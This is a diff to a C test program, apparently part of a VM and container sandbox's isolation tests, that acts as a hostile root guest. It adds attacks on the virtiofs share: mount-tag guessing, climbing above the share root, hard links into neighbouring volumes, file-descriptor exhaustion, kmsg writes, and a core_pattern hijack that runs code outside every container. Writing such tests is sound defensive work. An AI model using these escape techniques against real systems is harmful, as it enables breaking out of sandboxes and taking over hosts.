@@ -2,7 +2,7 @@
  * A hostile guest. Runs as root with every capability and without a seccomp filter inside a
  * container and tries to reach files of the host that were not shared.
  *
- *   attack NAME [ARGUMENT…]
+ *   attack [outside ID] NAME [ARGUMENT…]
  *
  * Each attempt prints one line, `tried WHAT: RESULT`. Whatever an attempt could read is printed as
  * it is: the test looks for its secret in the output. An attempt whose mere success is a breach
@@ -22,6 +22,7 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -272,40 +273,17 @@ static void readonly(int argc, char **argv)
 
 /* --- the share as such --------------------------------------------------------------------- */
 
-static int mount_share(const char *at)
-{
-	mkdir(at, 0777);
-	int result = mount(TAG, at, "virtiofs", 0, NULL);
-	tried("mount the share at", at, result);
-	return result;
-}
-
 static int same(const struct stat *a, const struct stat *b)
 {
 	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
 }
 
-/*
- * attack again READONLY SECRET: mounts the whole share, finds the volume that holds a file whose
- * contents begin like READONLY's, and tries everything on it there.
- */
-static void again(int argc, char **argv)
+/* Climbs above a directory from within, and reads there. */
+static void climb(const char *at, int dir, const char *secret)
 {
-	const char *at = "/tmp/share";
-	char path[4096], first[64] = "", other[64];
 	struct stat root, up;
 
-	(void)argc;
-	int fd = open(argv[0], O_RDONLY);
-	if (read(fd, first, sizeof(first)) <= 0)
-		exit(2);
-	if (mount_share(at) != 0)
-		return;
-	/* Nothing above its root. */
-	int dir = open(at, O_RDONLY | O_DIRECTORY);
 	fstat(dir, &root);
-	printf("root of the share\n");
-	show_fd(dir);
 	fflush(stdout);
 	pid_t child = fork();
 	if (child == 0) {
@@ -315,14 +293,56 @@ static void again(int argc, char **argv)
 			chdir("..");
 		stat(".", &up);
 		breach_if(!same(&root, &up), "climb out of", at);
-		touch_all(argv[1] + 1);
+		touch_all(secret + 1);
 		fflush(stdout);
 		_exit(0);
 	}
 	waitpid(child, NULL, 0);
+}
+
+/* attack again SECRET: mounts the share a second time, and whatever else might be there. */
+static void again(int argc, char **argv)
+{
+	const char *at = "/tmp/share";
+
+	(void)argc;
+	mkdir(at, 0777);
+	tried("mount the share at", at, mount(TAG, at, "virtiofs", 0, NULL));
+	int dir = open(at, O_RDONLY | O_DIRECTORY);
+	printf("root of the share\n");
+	show_fd(dir);
+	climb(at, dir, argv[0]);
+	/* Other names for the device, other file systems of the host. */
+	const char *tags[] = { "/", "..", "root", "myfs", "hostshare", "" };
+	for (size_t i = 0; i < sizeof(tags) / sizeof(*tags); i++) {
+		int result = mount(tags[i], at, "virtiofs", 0, NULL);
+		tried("mount tag", tags[i], result);
+		breach_if(result == 0, "mount tag", tags[i]);
+	}
+	const char *kinds[] = { "hostfs", "9p", "nfs", "fuse", "vboxsf" };
+	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
+		int result = mount("/", at, kinds[i], 0, "trans=virtio");
+		tried("mount kind", kinds[i], result);
+		breach_if(result == 0, "mount kind", kinds[i]);
+	}
+}
+
+/*
+ * attack root SECRET READONLY: as the guest's root, outside of its container. Everything at the root
+ * of the share, and on the volume that holds a file with the text READONLY.
+ */
+static void share_root(int argc, char **argv)
+{
+	const char *at = "/run/bulkhead/share";
+	char path[4096], text[4096];
+
+	(void)argc;
+	int dir = open(at, O_RDONLY | O_DIRECTORY);
+	tried("open", at, dir);
+	climb(at, dir, argv[0]);
 	/* Its root belongs to nobody. */
 	const char *names[] = { "/planted", "/..", "/.", "/proc", "/etc" };
-	for (size_t i = 0; i < 5; i++) {
+	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
 		join(path, sizeof(path), at, names[i]);
 		int made = open(path, O_CREAT | O_EXCL | O_WRONLY, 0666);
 		tried("create", path, made);
@@ -331,27 +351,27 @@ static void again(int argc, char **argv)
 		tried("mkdir", path, result);
 		breach_if(result == 0, "mkdir", path);
 	}
-	/* Containers and, in each, its root and volumes: look for the read-only one. */
 	DIR *containers = fdopendir(dup(dir));
 	struct dirent *container, *volume;
 	int found = 0;
 	while (containers && (container = readdir(containers))) {
 		if (container->d_name[0] == '.')
 			continue;
-		snprintf(path, sizeof(path), "%s/%s", at, container->d_name);
-		DIR *volumes = opendir(path);
+		printf("container %s\n", container->d_name);
 		snprintf(path, sizeof(path), "%s/%s/planted", at, container->d_name);
 		int made = open(path, O_CREAT | O_WRONLY, 0666);
 		tried("create", path, made);
 		breach_if(made >= 0, "create", path);
+		snprintf(path, sizeof(path), "%s/%s", at, container->d_name);
+		DIR *volumes = opendir(path);
 		while (volumes && (volume = readdir(volumes))) {
 			if (volume->d_name[0] == '.')
 				continue;
 			printf("shared %s\n", volume->d_name);
 			snprintf(path, sizeof(path), "%s/%s/%s/file", at, container->d_name, volume->d_name);
-			fd = open(path, O_RDONLY);
-			memset(other, 0, sizeof(other));
-			if (fd < 0 || read(fd, other, sizeof(other)) <= 0 || strcmp(first, other) != 0)
+			int fd = open(path, O_RDONLY);
+			memset(text, 0, sizeof(text));
+			if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0 || strcmp(text, argv[1]) != 0)
 				continue;
 			found = 1;
 			*strrchr(path, '/') = '\0';
@@ -359,24 +379,15 @@ static void again(int argc, char **argv)
 			tried("remount", path, mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
 			tried("remount the file system", path, mount(NULL, path, NULL, MS_REMOUNT, NULL));
 			write_all_ways(path);
-			char *forbidden[3] = { strcat(path, "/file"), "/", "/data" };
+			/* Into the volumes beside it, which are one file system to the guest's kernel. */
+			char beside[2][4096];
+			snprintf(beside[0], sizeof(beside[0]), "%s/%s/rootfs", at, container->d_name);
+			snprintf(beside[1], sizeof(beside[1]), "%s/%s/m0", at, container->d_name);
+			char *forbidden[3] = { strcat(path, "/file"), beside[0], beside[1] };
 			hardlinks(3, forbidden);
 		}
 	}
 	printf("found the read-only volume: %s\n", found ? "yes" : "no");
-	/* Other names for the device, other file systems of the host. */
-	const char *tags[] = { "/", "..", "root", "myfs", "hostshare", "" };
-	for (size_t i = 0; i < sizeof(tags) / sizeof(*tags); i++) {
-		int result = mount(tags[i], "/tmp/share", "virtiofs", 0, NULL);
-		tried("mount tag", tags[i], result);
-		breach_if(result == 0, "mount tag", tags[i]);
-	}
-	const char *kinds[] = { "hostfs", "9p", "nfs", "fuse", "vboxsf" };
-	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
-		int result = mount("/", "/tmp/share", kinds[i], 0, "trans=virtio");
-		tried("mount kind", kinds[i], result);
-		breach_if(result == 0, "mount kind", kinds[i]);
-	}
 }
 
 /* --- file handles -------------------------------------------------------------------------- */
@@ -712,56 +723,163 @@ static void vsock(int argc, char **argv)
 	printf("refused %d of %d at once\n", refused, count);
 }
 
+/* --- the console --------------------------------------------------------------------------- */
+
+/* attack kmsg TEXT: says it on the kernel's console. */
+static void kmsg(int argc, char **argv)
+{
+	(void)argc;
+	char line[512];
+	int log = open("/dev/kmsg", O_WRONLY);
+
+	snprintf(line, sizeof(line), "<0>%s\n", argv[0]);
+	tried("write", "kmsg", write(log, line, strlen(line)));
+}
+
 /* --- exhaustion ---------------------------------------------------------------------------- */
 
-/* attack files COUNT DIRECTORY: makes many files, holds as many open as it may, counts them. */
+/* Counts the files of a directory that can be looked at. */
+static int count_files(const char *at)
+{
+	DIR *dir = opendir(at);
+	struct dirent *entry;
+	struct stat st;
+	int seen = 0;
+
+	while (dir && (entry = readdir(dir)))
+		if (entry->d_name[0] != '.' && fstatat(dirfd(dir), entry->d_name, &st, 0) == 0)
+			seen++;
+	if (dir)
+		closedir(dir);
+	return seen;
+}
+
+/*
+ * attack files COUNT DIRECTORY: makes files until the host has no descriptors left for them or there
+ * are COUNT, then gives the descriptors back and counts.
+ */
 static void files(int argc, char **argv)
 {
 	(void)argc;
-	int count = atoi(argv[0]), made = 0, open_at_once = 0, seen = 0;
+	int count = atoi(argv[0]), made = 0, open_at_once = 0, fds[900];
 	char name[64];
 
 	if (chdir(argv[1]) != 0 || (mkdir("many", 0777) != 0 && errno != EEXIST) || chdir("many") != 0)
 		exit(2);
-	for (int i = 0; i < count; i++) {
-		snprintf(name, sizeof(name), "%d", i);
+	for (; made < count; made++) {
+		snprintf(name, sizeof(name), "%d", made);
 		int fd = open(name, O_CREAT | O_WRONLY, 0666);
 		if (fd < 0) {
 			tried("create", name, fd);
 			break;
 		}
-		made++;
 		if (open_at_once < 900)
-			open_at_once++;
+			fds[open_at_once++] = fd;
 		else
 			close(fd);
 	}
-	DIR *dir = opendir(".");
-	struct dirent *entry;
-	struct stat st;
-	while (dir && (entry = readdir(dir)))
-		if (entry->d_name[0] != '.' && fstatat(dirfd(dir), entry->d_name, &st, 0) == 0)
-			seen++;
-	printf("made %d saw %d\n", made, seen);
+	while (open_at_once > 0)
+		close(fds[--open_at_once]);
+	/* What the guest's kernel remembers costs the host a descriptor each. */
+	int drop = open("/proc/sys/vm/drop_caches", O_WRONLY);
+	tried("write", "drop_caches", write(drop, "2\n", 2));
+	printf("made %d saw %d\n", made, count_files("."));
+}
+
+/* --- outside of the container -------------------------------------------------------------- */
+
+struct attack {
+	const char *name;
+	void (*run)(int, char **);
+	int least;
+};
+
+static const struct attack attacks[] = {
+	{ "links", links, 2 }, { "nodes", nodes, 2 }, { "hardlinks", hardlinks, 2 },
+	{ "readonly", readonly, 1 }, { "again", again, 1 }, { "root", share_root, 2 },
+	{ "handles", handles, 2 }, { "race", race, 3 }, { "pipes", pipes, 1 },
+	{ "names", names, 1 }, { "xattrs", xattrs, 1 }, { "vsock", vsock, 1 },
+	{ "files", files, 2 }, { "kmsg", kmsg, 1 },
+};
+
+static int run_attack(int argc, char **argv)
+{
+	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
+		if (argc >= 1 + attacks[i].least && strcmp(argv[0], attacks[i].name) == 0) {
+			attacks[i].run(argc - 1, argv + 1);
+			printf("done %s\n", argv[0]);
+			fflush(stdout);
+			return 0;
+		}
+	fprintf(stderr, "usage: attack [outside ID] NAME ARGUMENT...\n");
+	return 2;
+}
+
+/*
+ * attack outside ID NAME ARGUMENT…: the same as the guest's root. The kernel pipes a core dump to a
+ * program that it starts beside the agent, outside of all containers; the rest is in files.
+ */
+static int outside(int argc, char **argv)
+{
+	struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
+	char buffer[65536];
+	FILE *arguments = fopen("/attack-arguments", "w");
+
+	for (int i = 1; i < argc; i++)
+		fprintf(arguments, "%s%c", argv[i], '\0');
+	fclose(arguments);
+	mkdir("/tmp/proc", 0700);
+	mount("proc", "/tmp/proc", "proc", 0, NULL);
+	/* The agent's root lies over the kernel's own; `..` leads up to it. */
+	snprintf(buffer, sizeof(buffer), "|/../run/bulkhead/share/%s/rootfs/attack @ %s", argv[0], argv[0]);
+	int pattern = open("/tmp/proc/sys/kernel/core_pattern", O_WRONLY);
+	if (write(pattern, buffer, strlen(buffer)) < 0) {
+		perror("core_pattern");
+		return 2;
+	}
+	setrlimit(RLIMIT_CORE, &unlimited);
+	pid_t child = fork();
+	if (child == 0) {
+		signal(SIGSEGV, SIG_DFL);
+		raise(SIGSEGV);
+		_exit(4);
+	}
+	/* It ends when the reader of its core dump has. */
+	waitpid(child, NULL, 0);
+	int output = open("/attack-output", O_RDONLY);
+	for (ssize_t count; (count = read(output, buffer, sizeof(buffer))) > 0;)
+		(void)!write(1, buffer, (size_t)count);
+	return output < 0 ? 2 : 0;
+}
+
+/* The kernel's helper: arguments and output are in the root of container ID. */
+static int as_helper(const char *id)
+{
+	static char text[65536];
+	char path[4096], *argv[64];
+	int argc = 0;
+
+	chdir("/..");
+	chroot(".");
+	snprintf(path, sizeof(path), "/run/bulkhead/share/%s/rootfs/attack-arguments", id);
+	ssize_t size = read(open(path, O_RDONLY), text, sizeof(text) - 1);
+	for (char *at = text; at < text + size && argc < 63; at += strlen(at) + 1)
+		argv[argc++] = at;
+	argv[argc] = NULL;
+	snprintf(path, sizeof(path), "/run/bulkhead/share/%s/rootfs/attack-output", id);
+	int output = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+	dup2(output, 1);
+	dup2(output, 2);
+	return run_attack(argc, argv);
 }
 
 int main(int argc, char **argv)
 {
-	struct { const char *name; void (*run)(int, char **); int least; } attacks[] = {
-		{ "links", links, 2 }, { "nodes", nodes, 2 }, { "hardlinks", hardlinks, 2 },
-		{ "readonly", readonly, 1 }, { "again", again, 2 }, { "handles", handles, 2 },
-		{ "race", race, 3 }, { "pipes", pipes, 1 }, { "names", names, 1 },
-		{ "xattrs", xattrs, 1 }, { "vsock", vsock, 1 }, { "files", files, 2 },
-	};
-
 	setvbuf(stdout, NULL, _IOFBF, 1 << 16);
 	umask(0);
-	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
-		if (argc >= 2 + attacks[i].least && strcmp(argv[1], attacks[i].name) == 0) {
-			attacks[i].run(argc - 2, argv + 2);
-			printf("done %s\n", argv[1]);
-			return 0;
-		}
-	fprintf(stderr, "usage: attack NAME ARGUMENT...\n");
-	return 2;
+	if (argc > 3 && strcmp(argv[1], "outside") == 0)
+		return outside(argc - 2, argv + 2);
+	if (argc == 3 && strcmp(argv[1], "@") == 0)
+		return as_helper(argv[2]);
+	return run_attack(argc - 1, argv + 1);
 }
